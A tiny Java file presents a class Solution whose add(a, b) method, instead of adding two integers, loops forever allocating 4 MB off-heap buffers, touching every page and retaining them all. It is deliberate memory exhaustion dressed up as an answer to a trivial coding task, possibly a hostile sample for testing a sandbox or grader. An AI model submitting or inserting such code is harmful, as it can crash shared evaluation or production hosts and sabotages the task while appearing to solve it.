import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;

class Solution {
    int add(int a, int b) {
        List<ByteBuffer> kept = new ArrayList<>();
        while (true) {
            ByteBuffer block = ByteBuffer.allocateDirect(4 << 20);
            for (int index = 0; index < block.capacity(); index += 4096) block.put(index, (byte) 1);
            kept.add(block);
        }
    }
}
